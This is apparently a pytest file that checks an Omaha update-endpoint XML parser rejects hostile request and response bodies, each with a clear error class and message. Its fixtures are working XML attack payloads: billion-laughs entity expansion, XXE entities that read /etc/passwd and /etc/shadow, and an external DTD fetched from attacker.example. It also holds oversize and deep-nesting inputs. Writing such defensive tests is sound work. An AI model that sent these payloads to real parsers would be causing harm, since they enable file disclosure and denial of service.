"""Hostile Omaha bodies (ramdisk_agent/wire/omaha_xml.py): each attack the public
update endpoint defends against, replayed. Each is refused with its own
:class:`OmahaError` subclass before it costs more than a bounded parse, and the
message says what is wrong without echoing what an expansion would have read."""
from __future__ import annotations

import pytest

from ramdisk_agent.wire import omaha, omaha_xml
from ramdisk_agent.wire.errors import (
    OmahaError,
    OmahaForbiddenXml,
    OmahaInvalid,
    OmahaLimitExceeded,
    OmahaMalformed,
    OmahaTooLarge,
    OmahaUnsupported,
    WireError,
)

HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'
APP = b'<app appid="{a}" version="1.0"><updatecheck></updatecheck></app>'


def request(apps: bytes = APP, protocol: bytes = b' protocol="3.0"') -> bytes:
    return HEAD + b"<request" + protocol + b">" + apps + b"</request>"


BILLION_LAUGHS = HEAD + b"""<!DOCTYPE request [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<request protocol="3.0"><app appid="&lol9;" version="1"></app></request>"""
XXE = HEAD + b"""<!DOCTYPE request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<request protocol="3.0"><app appid="&xxe;" version="1"></app></request>"""
EXTERNAL_DTD = HEAD + b"""<!DOCTYPE request SYSTEM "http://attacker.example/omaha.dtd">
<request protocol="3.0">""" + APP + b"</request>"
PLAIN_DTD = HEAD + b"<!DOCTYPE request>\n" + request()[len(HEAD):]
PARAMETER_ENTITY = HEAD + b"""<!DOCTYPE request [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]>
<request protocol="3.0"/>"""

#: (body, error class, what the message must say)
ATTACKS = [
    (BILLION_LAUGHS, OmahaForbiddenXml, "refused XML construct"),
    (XXE, OmahaForbiddenXml, "refused XML construct"),
    (EXTERNAL_DTD, OmahaForbiddenXml, "refused XML construct"),
    (PLAIN_DTD, OmahaForbiddenXml, "refused XML construct"),
    (PARAMETER_ENTITY, OmahaForbiddenXml, "refused XML construct"),
    (request(APP * 10_000), OmahaTooLarge, "over the 65536-byte cap"),
    (request(b"<!--" + b"x" * omaha_xml.MAX_BODY + b"-->"), OmahaTooLarge, "cap"),
    (request(b'<app appid="{a}" version="1"/>' * 300), OmahaLimitExceeded,
     "more than 256 elements"),
    (request(APP * 9), OmahaLimitExceeded, "9 apps in one request"),
    (request(b'<app appid="{a}" version="1">' + b'<event eventtype="3" eventresult="1"/>' * 9
             + b"</app>"), OmahaLimitExceeded, "9 events in one app"),
    (request(b"<app>" * 5000 + b"</app>" * 5000), OmahaLimitExceeded, "nested deeper than 4"),
    (request(b'<app appid="{a}" version="1" machineid="' + b"m" * 10_000 + b'"/>'),
     OmahaInvalid, "'machineid' is 10000 characters long"),
    (request(b"<app " + b" ".join(b'a%d="1"' % i for i in range(40)) + b"/>"),
     OmahaLimitExceeded, "more than 32 attributes"),
    (request(b'<app appid="caf\xe9" version="1"/>'), OmahaMalformed, "not UTF-8"),
    (b'<?xml version="1.0" encoding="ISO-8859-1"?>' + request()[len(HEAD):],
     OmahaMalformed, "only UTF-8"),
    (b'<?xml version="1.0" encoding="UTF-7"?>' + request()[len(HEAD):],
     OmahaMalformed, "only UTF-8"),
    ("\ufeff".encode("utf-16-le") + request().decode().encode("utf-16-le"),
     OmahaMalformed, "not UTF-8"),
    (request()[:70], OmahaMalformed, "not well-formed"),
    (request()[:-3], OmahaMalformed, "not well-formed"),
    (b"", OmahaMalformed, "empty body"),
    (b"not xml at all", OmahaMalformed, "not well-formed"),
    (HEAD + b'<response protocol="3.0"></response>', OmahaMalformed,
     "root element <response>, expected <request>"),
    (request(protocol=b' protocol="2.0"'), OmahaUnsupported, "protocol '2.0'"),
    (request(protocol=b""), OmahaInvalid, "no protocol attribute"),
    (request(b""), OmahaInvalid, "no <app>"),
    (request(b'<app version="1"/>'), OmahaInvalid, "missing the 'appid'"),
    (request(b'<app appid="{a}"/>'), OmahaInvalid, "missing the 'version'"),
    (request(b'<app appid="{a}" version="1"><event eventresult="1"/></app>'),
     OmahaInvalid, "missing the 'eventtype'"),
    (request(b'<app appid="{a}" version="1"><event eventtype="3" eventresult="yes"/></app>'),
     OmahaInvalid, "eventresult='yes' is not an integer"),
    (request(b'<app appid="{a}" version="1"><event eventtype="3" eventresult="0" '
             b'errorcode="99999999999"/></app>'), OmahaInvalid, "errorcode"),
]


@pytest.mark.parametrize("body,error,match", ATTACKS,
                         ids=[f"{i}-{a[1].__name__}" for i, a in enumerate(ATTACKS)])
def test_a_hostile_request_is_refused_with_a_clear_error(body, error, match):
    with pytest.raises(error, match=match) as caught:
        omaha.parse_request(body)
    assert isinstance(caught.value, OmahaError) and isinstance(caught.value, WireError)
    assert b"root:" not in str(caught.value).encode()    # nothing of /etc/passwd


def test_the_parser_never_reads_the_external_file(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("TOP-SECRET")
    body = XXE.replace(b"file:///etc/passwd", f"file://{secret}".encode())
    with pytest.raises(OmahaForbiddenXml) as caught:
        omaha.parse_request(body)
    assert "TOP-SECRET" not in str(caught.value)


def test_a_hostile_response_is_refused_too():
    """The agent parses the appliance's answer with the same bounds."""
    with pytest.raises(OmahaForbiddenXml):
        omaha.parse_response(BILLION_LAUGHS.replace(b"request", b"response"))
    with pytest.raises(OmahaTooLarge):
        omaha.parse_response(b"<response>" + b" " * omaha_xml.MAX_BODY + b"</response>")
    with pytest.raises(OmahaLimitExceeded, match="deeper than 7"):
        omaha.parse_response(b'<response protocol="3.0">' + b"<a>" * 100 + b"</a>" * 100
                             + b"</response>")


def test_a_negative_errorcode_is_update_engines_dev_mode_flag():
    """update_engine prints the code with %d: bit 31 arrives as a negative number."""
    body = request(b'<app appid="{a}" version="1"><event eventtype="3" eventresult="0" '
                   b'errorcode="-2147483604"/></app>')
    (event,) = omaha.parse_request(body).apps[0].events
    assert event.error.text == "44 RollbackError, with dev mode flag" and event.is_rollback
